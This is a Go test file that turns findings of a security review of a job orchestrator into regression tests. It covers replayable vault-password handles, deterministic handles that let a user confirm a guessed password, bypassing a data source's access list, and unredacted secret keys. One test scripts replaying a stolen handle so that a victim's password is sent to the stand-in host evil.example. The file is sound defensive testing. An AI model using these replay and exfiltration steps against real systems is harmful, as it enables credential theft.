package orchestrator

// Reproducers of the data-facing security review (branch rev-data), kept
// as tests of the behaviour they asked for.

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/golinkis/golinkis/datasource"
	"github.com/golinkis/golinkis/linkis"
)

// A vault handle is a bearer token: it is bound to nothing (no user, no
// job, no key name), and Run reveals handles under any key of the task's
// params. Whoever has read one - it is shown in paramsJson of the job's
// history to its owner and to every history administrator
// (isAdminView=true) - can submit a job of their own that names a server
// they run and carries the handle as jdbc.password: the orchestrator opens
// it and the engine sends the plaintext to that server. Any engine type
// will do: a handle under a key that is no secret at all is revealed too.
func TestVaultHandleOpensOnlyForItsUserAndKey(t *testing.T) {
	o, r := recordingOrchestrator(t, nil)

	// alice's job, as the entrance keeps it: only the handle is stored.
	a := spec("jdbc-4", "echo ok")
	a.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://db:5432/x",
		datasource.KeyUsername: "alice", datasource.KeyPassword: "Alice-Db-Pw-1"}
	if err := o.Check(a); err != nil {
		t.Fatal(err)
	}
	handle := a.Request.Params.Configuration.Runtime[datasource.KeyPassword]
	if !datasource.IsRedacted(handle) {
		t.Fatalf("not redacted: %q", handle)
	}

	// mallory replays it against a server of hers.
	m := spec("jdbc-4", "echo ok")
	m.User = "mallory"
	m.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
	m.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://evil.example:5432/x",
		datasource.KeyUsername: "alice", datasource.KeyPassword: handle}
	err := o.Check(m)
	if err == nil {
		o.Run(context.Background(), m, newRecorder())
	}
	for _, task := range r.tasks {
		for k, v := range task {
			if v == "Alice-Db-Pw-1" {
				t.Errorf("mallory's task to %s carries alice's password under %s", task[datasource.KeyURL], k)
			}
		}
	}

	// And through a non-secret key of any engine's job.
	s := spec("shell-1", "echo ok")
	s.User = "mallory"
	s.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
	s.Request.Params.Configuration.Runtime = Values{"note": handle}
	if err := o.Check(s); err == nil {
		o.Run(context.Background(), s, newRecorder())
	}
	for _, task := range r.tasks {
		if task["note"] == "Alice-Db-Pw-1" {
			t.Errorf("a handle under a non-secret key was revealed into mallory's shell task: note=%q", task["note"])
		}
	}
}

// The nonce is derived from the secret, so equal passwords give equal
// handles across users and jobs: anyone who sees two records (a history
// administrator) learns that alice and bob share a password, and can test
// a guess by submitting it and comparing handles. datasource/doc.go
// promises "a random nonce, so the handle reveals nothing".
func TestVaultHandlesOfEqualSecretsDiffer(t *testing.T) {
	o, _ := recordingOrchestrator(t, nil)
	handle := func(user, pw string) string {
		s := spec("jdbc-4", "echo ok")
		s.User = user
		s.Request.Labels[linkis.LabelUserCreator] = user + "-IDE"
		s.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://db:5432/x",
			datasource.KeyUsername: user, datasource.KeyPassword: pw}
		if err := o.Check(s); err != nil {
			t.Fatal(err)
		}
		return s.Request.Params.Configuration.Runtime[datasource.KeyPassword]
	}
	alice, bob := handle("alice", "Shared-Pw-2"), handle("bob", "Shared-Pw-2")
	if alice == bob {
		t.Errorf("alice's and bob's records hold the same handle (%s...): the handle reveals that their passwords are equal",
			alice[:min(len(alice), 24)])
	}
	if guess := handle("mallory", "Shared-Pw-2"); guess == alice {
		t.Errorf("mallory confirms a guess of alice's password by submitting it and comparing the handles")
	}
}

// A data source with jdbc.auth.type SIMPLE (the database trusts the
// engine's host for that user: no password) is guarded only by its users
// list - and only when a job names it. A user not in the list writes the
// same URL and user name inline with SIMPLE, and the job is accepted and
// connects exactly as the data source would: the list protects nothing.
func TestSimpleAccessOnlyThroughADataSource(t *testing.T) {
	set, err := datasource.NewSet([]datasource.DataSource{{Name: "warehouse", URL: "jdbc:postgresql://wh:5432/dw",
		Username: "etl", AuthType: datasource.AuthSimple, Users: []string{"alice"}}})
	if err != nil {
		t.Fatal(err)
	}
	o, r := recordingOrchestrator(t, set)
	named := spec("jdbc-4", "echo ok")
	named.User = "mallory"
	named.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
	named.Request.Params.Configuration.Runtime = Values{datasource.KeyDataSource: "warehouse"}
	if err := o.Check(named); err == nil {
		t.Fatal("mallory may name warehouse")
	}
	inline := spec("jdbc-4", "echo ok")
	inline.User = "mallory"
	inline.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
	inline.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://wh:5432/dw",
		datasource.KeyUsername: "etl", datasource.KeyAuthType: datasource.AuthSimple}
	if err := o.Check(inline); err == nil {
		o.Run(context.Background(), inline, newRecorder())
	} else if !errors.Is(err, linkis.ErrPermission) || !strings.Contains(err.Error(), datasource.KeyDataSource) {
		t.Errorf("refused, but not saying to name a data source: %v", err)
	}
	// Nor with a password of her own: a server that trusts the host for
	// etl does not check it. Another database of that server as etl is
	// the same trust.
	withPw := spec("jdbc-4", "echo ok")
	withPw.User = "mallory"
	withPw.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
	withPw.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://WH:5432/postgres",
		datasource.KeyUsername: "etl", datasource.KeyPassword: "anything"}
	if err := o.Check(withPw); err == nil {
		o.Run(context.Background(), withPw, newRecorder())
	} else if !errors.Is(err, linkis.ErrPermission) || !strings.Contains(err.Error(), `"warehouse"`) || strings.Contains(err.Error(), "anything") {
		t.Errorf("refused, but not naming the data source (or quoting the password): %v", err)
	}
	for _, task := range r.tasks {
		if task[datasource.KeyUsername] == "etl" {
			t.Errorf("mallory, not allowed warehouse, reaches its server as %q with the data source's own trust (SIMPLE): %v", "etl", task)
		}
	}
	// alice, who may use warehouse, may also reach that server inline with
	// a password; another user of it is no data source's.
	ok := spec("jdbc-4", "echo ok")
	ok.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://wh:5432/dw",
		datasource.KeyUsername: "etl", datasource.KeyPassword: "Etl-Pw-1"}
	other := spec("jdbc-4", "echo ok")
	other.User = "mallory"
	other.Request.Labels[linkis.LabelUserCreator] = "mallory-IDE"
	other.Request.Params.Configuration.Runtime = Values{datasource.KeyURL: "jdbc:postgresql://wh:5432/dw",
		datasource.KeyUsername: "mallory", datasource.KeyPassword: "M-Pw-1"}
	for _, s := range []Spec{ok, other} {
		if err := o.Check(s); err != nil {
			t.Errorf("%s's inline connection with a password: %v", s.User, err)
		}
	}
}

// linkis.IsSecretKey knows a secret only by a last dot-word of password,
// passwd, pwd or secret. Common secret settings of Linkis's engines do not
// end so - Hive's metastore password
// (spark.hadoop.javax.jdo.option.ConnectionPassword), S3's secret key
// (fs.s3a.secret.key), an environment-style DB_PASSWORD, a token - and go
// as they are into the job's record and, as start-up parameters, into the
// Raft log and the engine's command line (`--param k=v`). Variables are
// never redacted, whatever their name.
func TestCommonSecretKeysAndVariablesAreRedacted(t *testing.T) {
	o, r := recordingOrchestrator(t, nil)
	s := spec("shell-1", "echo ${password}")
	s.Request.Params.Configuration.Startup = Values{
		"spark.hadoop.javax.jdo.option.ConnectionPassword": "Hive-Pw-1", "fs.s3a.secret.key": "S3-Secret-2",
		"DB_PASSWORD": "Env-Pw-3", "service.auth.token": "Tok-4"}
	// A variable named as a secret is not redacted either, though ${password}
	// is how a Linkis script brings a password into its code.
	s.Request.Params.Variable = Values{"password": "Var-Pw-5"}
	if err := o.Check(s); err != nil {
		t.Fatal(err)
	}
	o.Run(context.Background(), s, newRecorder())
	for k, v := range s.Request.Params.Configuration.Startup {
		if !datasource.IsRedacted(v) {
			t.Errorf("the job's record keeps %s in clear", k)
		}
	}
	if v := s.Request.Params.Variable["password"]; !datasource.IsRedacted(v) {
		t.Errorf("the job's record keeps the variable password in clear")
	}
	for _, ask := range r.asks {
		for k := range ask {
			t.Errorf("the ask (Raft log, engine command line) carries %s", k)
		}
	}
	// The variable is revealed for the substitution only: the engine gets
	// the code with the password, as the user wrote it to.
	if len(r.codes) != 1 || r.codes[0] != "echo Var-Pw-5" {
		t.Errorf("the code sent: %q", r.codes)
	}
	for k, want := range map[string]string{"fs.s3a.secret.key": "S3-Secret-2", "service.auth.token": "Tok-4"} {
		if len(r.tasks) != 1 || r.tasks[0][k] != want {
			t.Errorf("the task does not carry %s revealed: %v", k, r.tasks)
		}
	}
}
